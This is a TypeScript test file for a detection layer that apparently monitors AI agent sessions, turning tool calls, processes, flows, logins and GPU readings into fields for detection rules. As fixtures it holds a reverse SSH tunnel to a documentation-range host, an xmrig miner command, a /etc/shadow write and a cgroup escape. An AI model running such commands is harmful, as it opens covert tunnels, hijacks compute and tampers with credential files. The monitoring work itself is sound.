// From the log's events to what detection looks at: drawn episodes of the log, and what rules get to see of them.
import { describe, expect, it } from 'vitest'
import { drawEpisode, episodeStartMs, testHost, testSession } from '../../model/event-for-test.ts'
import type { StoredEvent } from '../../protocol/event.ts'
import type { Traffic } from '../../protocol/signal.ts'
import { createDetectionEvents, type Owner } from './detection-events.ts'

const minute = 60_000

function eventsOf(drawing: string) {
  const reader = createDetectionEvents()
  return drawEpisode(drawing).flatMap((event) => reader.ofEvent(event).events)
}

function told(kind: StoredEvent['kind'], data: object, owner?: Owner, more: object = {}) {
  const event = {
    v: 1,
    kind,
    atMs: episodeStartMs,
    id: 'e',
    partition: 0,
    seq: 1,
    seenAtMs: episodeStartMs,
    trust: 'firewall',
    source: 'suricata-eve/fw-1',
    data,
    ...more,
  }
  return createDetectionEvents().ofEvent(event as unknown as StoredEvent, owner).events
}

const traffic: Traffic = {
  protocol: 'tcp',
  source: { address: '10.77.0.11', port: 40_000 },
  destination: { address: '203.0.113.66', port: 22 },
}

describe('a tool call', () => {
  it('is one action with its text, and the command to be read', () => {
    const [event] = drawEpisode('00:01 action c1 bash ssh -R 1:localhost:22 u@203.0.113.9')
    if (event === undefined) throw new Error('nothing drawn')
    const { events, code } = createDetectionEvents().ofEvent(event)
    expect(events).toMatchObject([{ source: 'action', session: testSession, call: 'c1', fields: { Tool: 'bash' } }])
    expect(code).toEqual([{ shellText: 'ssh -R 1:localhost:22 u@203.0.113.9' }])
  })
})

describe('a process', () => {
  it('has its image, its command line and its parent’s', () => {
    const [, child] = eventsOf('00:01 exec 100 1 bash -c x\n00:02 exec 101 100 /opt/xmrig -o pool:3333')
    expect(child?.fields).toMatchObject({
      Image: '/opt/xmrig',
      CommandLine: '/opt/xmrig -o pool:3333',
      Args: ['-o', 'pool:3333'],
      ParentImage: '/usr/bin/bash',
      ParentCommandLine: 'bash -c x',
    })
  })

  it('of another host is no parent, and one whose parent is unknown has none', () => {
    const [, other] = drawEpisode('00:01 exec 100 1 bash\n00:02 exec 101 100 ls')
    const reader = createDetectionEvents()
    for (const event of drawEpisode('00:01 exec 100 1 bash')) reader.ofEvent(event)
    const seen = reader.ofEvent({ ...other, host: 'other' } as StoredEvent).events
    expect(seen[0]?.fields.ParentImage).toBeUndefined()
  })
})

describe('a connection', () => {
  it('is told when it opens, and again with what it moved when it ends', () => {
    const events = eventsOf(`
      00:01 exec  100 1 ssh -R x
      00:02 open  k1 203.0.113.40:22 100
      10:02 close k1 4000 5000
    `).slice(1)
    expect(events).toMatchObject([
      {
        source: 'connection',
        fields: {
          DestinationIp: '203.0.113.40',
          DestinationPort: 22,
          DestinationScope: 'documentation',
          Image: '/usr/bin/ssh',
        },
      },
      { source: 'connection', fields: { BytesOut: 4_000, DurationMs: 10 * minute, Ended: true } },
      { source: 'traffic', fields: { BytesOut: 4_000, BytesIn: 5_000, Open: false } },
    ])
  })

  it('that is still open is told as what moved since the last reading', () => {
    const reader = createDetectionEvents()
    const [opened, closed] = drawEpisode('00:00 open k1 203.0.113.40:22 100\n30:00 close k1 950 0')
    if (opened === undefined || closed === undefined) throw new Error('nothing drawn')
    reader.ofEvent(opened)
    const sampled = (minutes: number, bytesOut: number) =>
      reader.ofSessionSample({
        type: 'session',
        atMs: episodeStartMs + minutes * minute,
        session: testSession,
        cpuPercent: 0,
        bytesOut,
        bytesIn: 0,
        processCount: 1,
        connectionCount: 1,
        connections: [
          { connection: 'k1', bytesOut, bytesIn: 0 },
          { connection: 'never-opened', bytesOut: 9e9 },
        ],
      })
    const moved = [...sampled(10, 100), ...sampled(20, 900)].map(({ fields }) => [
      fields.BytesOut,
      fields.DurationMs,
      fields.Open,
    ])
    expect(moved).toEqual([
      [100, 10 * minute, true],
      [800, 20 * minute, true],
    ])
    expect(reader.ofEvent(closed).events[1]?.fields).toMatchObject({ BytesOut: 50, Open: false })
  })

  it('that waits for an answer is unanswered; one that stands is not', () => {
    const [waits, stands] = eventsOf('00:01 open k1 10.0.0.9:22 1 SYN-SENT\n00:02 open k2 10.0.0.9:22 1 ESTAB')
    expect([waits?.fields.Unanswered, stands?.fields.Unanswered]).toEqual([true, undefined])
  })
})

describe('a sensor’s flow', () => {
  const flow = (more: object, owner?: Owner) => told('flow.observed', { traffic, verdict: 'unknown', ...more }, owner)

  it('is the session’s to which attribution tied it', () => {
    expect(flow({}, { session: 'ep-1', call: 'c4' })[0]).toMatchObject({
      session: 'ep-1',
      call: 'c4',
      trust: 'firewall',
    })
    expect(flow({})[0]?.session).toBeUndefined()
  })

  it.each([
    [{ verdict: 'denied' }, true, undefined],
    [{ state: 'REJ' }, true, undefined],
    [{ state: 'closed/rst/shutdown', packetsOut: 1, packetsIn: 1 }, true, undefined],
    [{ state: 'S0' }, undefined, true],
    [{ state: 'new/syn_sent', packetsOut: 1, packetsIn: 0 }, undefined, true],
    // Benign twins: a talk that ends by reset, one that ends well, one whose answers another row tells.
    [{ state: 'closed/rst', packetsOut: 40, packetsIn: 38 }, undefined, undefined],
    [{ state: 'SF', packetsOut: 10, packetsIn: 8 }, undefined, undefined],
    [{ bytesOut: 100, packetsOut: 2 }, undefined, undefined],
  ])('%j: refused %s, unanswered %s', (more, refused, unanswered) => {
    const fields = flow(more)[0]?.fields
    expect([fields?.Refused, fields?.Unanswered]).toEqual([refused, unanswered])
  })

  it('over UDP without an answer is no silence', () => {
    const udp = { ...traffic, protocol: 'udp' }
    expect(
      told('flow.observed', { traffic: udp, verdict: 'unknown', packetsIn: 0 })[0]?.fields.Unanswered,
    ).toBeUndefined()
  })

  it('from the internet to the inside comes in, whoever scans there', () => {
    const from = { ...traffic, source: { address: '8.8.4.4' }, destination: { address: '10.0.0.1', port: 22 } }
    expect(told('flow.observed', { traffic: from, verdict: 'denied' })[0]?.fields.Direction).toBe('in')
    expect(flow({})[0]?.fields.Direction).toBe('unknown')
    expect(flow({ direction: 'internal' })[0]?.fields.Direction).toBe('out')
  })

  it('moves its bytes when it ends', () => {
    const [, moved] = flow({ bytesOut: 5_516, bytesIn: 5_650, packetsOut: 41, endedAtMs: episodeStartMs + 1_122_000 })
    expect(moved).toMatchObject({
      source: 'traffic',
      atMs: episodeStartMs + 1_122_000,
      fields: { BytesOut: 5_516, PacketsOut: 41, DurationMs: 1_122_000 },
    })
  })
})

describe('other facts', () => {
  it('an alert is an alert, and a blocked one also a connection that was refused', () => {
    const alert = { basis: 'signature', title: 'ET COINMINER', ruleId: '2024792', severity: 'high', traffic }
    expect(told('alert.raised', { ...alert, action: 'allowed' })).toMatchObject([
      { source: 'alert', fields: { Signature: 'ET COINMINER', SignatureId: '2024792', DestinationPort: 22 } },
    ])
    expect(told('alert.raised', { ...alert, action: 'blocked' })[1]).toMatchObject({
      source: 'connection',
      fields: { Refused: true },
    })
  })

  it('a name that is looked up, an encrypted talk, a request each show their name', () => {
    expect(told('dns.queried', { traffic, query: 'x.example.com', type: 'TXT' })[0]?.fields).toMatchObject({
      QueryName: 'x.example.com',
      QueryType: 'TXT',
    })
    expect(told('tls.observed', { traffic, serverName: 'pool.example' })[0]?.fields).toMatchObject({
      Application: 'tls',
      DestinationHostname: 'pool.example',
    })
    expect(told('http.requested', { traffic, hostname: 'a.example' })[0]?.fields.Application).toBe('http')
    expect(told('ssh.observed', { traffic })[0]?.fields.Application).toBe('ssh')
  })

  it('a failed connect that another sensor reports is refused or unanswered by its errno', () => {
    const reported = (more: object) =>
      told('connection.reported', {
        what: 'connected',
        process: { comm: 'curl' },
        protocol: 'tcp',
        remote: { address: '10.0.0.1', port: 5 },
        ...more,
      })[0]?.fields
    expect(reported({ succeeded: false, error: 'ECONNREFUSED' })).toMatchObject({
      Refused: true,
      Image: '/usr/bin/curl',
    })
    expect(reported({ succeeded: false, error: 'ETIMEDOUT' })).toMatchObject({ Unanswered: true })
    expect(reported({ succeeded: false, error: 'EINPROGRESS' })?.Unanswered).toBeUndefined()
    expect(reported({ succeeded: true })?.Refused).toBeUndefined()
  })

  it('files that a host sensor saw have their operation; what says nothing is left out', () => {
    const file = (what: string) => told('file.reported', { what, process: { comm: 'vi' }, path: '/etc/shadow' })
    expect(file('written')[0]?.fields).toMatchObject({ TargetFilename: '/etc/shadow', Operation: 'write' })
    expect(file('other')).toEqual([])
  })

  it('a process that left its cgroup is an alert of the probe', () => {
    const [, escaped] = eventsOf('00:01 exec 7 1 sleep 9\n00:02 escape 7')
    expect(escaped).toMatchObject({
      source: 'alert',
      fields: { SignatureId: 'vigil-process-escaped', Image: '/usr/bin/sleep' },
    })
  })

  it('life and its end are telemetry', () => {
    const events = eventsOf(
      '00:00 probe\n00:00 start x\n00:01 action c1 bash ls\n00:02 done c1\n00:03 silent\n00:04 stop',
    )
    expect(
      events.filter(({ source }) => source === 'telemetry').map(({ fields }) => `${fields.Stream} ${fields.State}`),
    ).toEqual(['probe connected', 'session started', 'agent call-ended', 'probe lost', 'session ended'])
  })

  it('controls, receipts and Vigil’s own conclusions are nothing to detect', () => {
    expect(eventsOf('00:05 ask ctl-1 pause\n00:06 end ctl-1 enforced\n00:07 frozen 1')).toEqual([])
  })
})

describe('a reading of a GPU', () => {
  it('says what the driver says, and who is there where that is known', () => {
    const reader = createDetectionEvents()
    const sample = {
      type: 'gpu' as const,
      atMs: episodeStartMs,
      host: testHost,
      gpu: 'GPU-a',
      index: 0,
      utilPercent: 99,
    }
    expect(reader.ofGpuSample(sample)[0]).toMatchObject({
      source: 'gpu',
      session: undefined,
      fields: { UtilizationPercent: 99 },
    })
    expect(reader.ofGpuSample(sample)[0]?.fields.OnTask).toBeUndefined()
    const use = { onTask: false, expected: 'actor-3', actual: 'ep-7', image: 'xmrig', session: 'ep-7' }
    expect(reader.ofGpuSample(sample, use)[0]).toMatchObject({
      session: 'ep-7',
      fields: { OnTask: false, ExpectedUser: 'actor-3', ActualUser: 'ep-7', Image: 'xmrig' },
    })
  })
})

describe('what a sensor tells of who logs in, what passes and what breaks', () => {
  it('is a login with its outcome, whence it came and by which program', () => {
    const data = {
      what: 'USER_AUTH',
      user: 'root',
      outcome: 'failed',
      address: '203.0.113.9',
      process: { exe: '/usr/sbin/sshd' },
    }
    expect(told('login.reported', data)).toMatchObject([
      {
        source: 'login',
        fields: {
          What: 'USER_AUTH',
          User: 'root',
          Outcome: 'failed',
          SourceIp: '203.0.113.9',
          Image: '/usr/sbin/sshd',
        },
      },
    ])
  })

  it('is a login too where a network sensor knows how SSH ended, and only a connection where it does not', () => {
    const versions = { clientVersion: 'OpenSSH_9.6', serverVersion: 'AsyncSSH_2.14.0' }
    const connection = {
      source: 'connection',
      fields: { Application: 'ssh', ClientVersion: 'OpenSSH_9.6', ServerVersion: 'AsyncSSH_2.14.0' },
    }
    expect(told('ssh.observed', { traffic, ...versions, authenticated: false })).toMatchObject([
      connection,
      { source: 'login', fields: { What: 'ssh', Outcome: 'failed', DestinationIp: '203.0.113.66' } },
    ])
    expect(told('ssh.observed', { traffic, ...versions })).toMatchObject([connection])
  })

  it('is a transfer, never a file of this machine: a path in a URL is no path here', () => {
    const data = { traffic, name: '/etc/shadow', mimeType: 'text/plain', sizeBytes: 7 }
    expect(told('file.transferred', data)).toMatchObject([
      {
        source: 'transfer',
        fields: { Name: '/etc/shadow', MimeType: 'text/plain', SizeBytes: 7, DestinationIp: '203.0.113.66' },
      },
    ])
  })

  it('is an alert of the driver where a GPU fails', () => {
    expect(told('gpu.fault', { gpu: 'index-3', xid: 79 })).toMatchObject([
      { source: 'alert', fields: { Sensor: 'gpu-driver', SignatureId: 'xid-79', Category: 'gpu fault' } },
    ])
  })
})

describe('a flow on which only one side speaks', () => {
  const flow = (more: object) =>
    told('flow.observed', { traffic, packetsOut: 5, packetsIn: 3, bytesOut: 5_526, bytesIn: 206, ...more })[0]?.fields

  it('is told by the other side’s packets, which are empty', () => {
    expect(flow({})?.OneSided).toBe(true)
  })

  it('is not one that was answered, refused, never answered, or that carried nothing at all', () => {
    expect(flow({ bytesIn: 900 })?.OneSided).toBeUndefined()
    expect(flow({ verdict: 'denied' })?.OneSided).toBeUndefined()
    expect(flow({ packetsIn: 0, bytesIn: 0 })?.OneSided).toBeUndefined()
    expect(flow({ bytesOut: 320 })?.OneSided).toBeUndefined()
  })
})
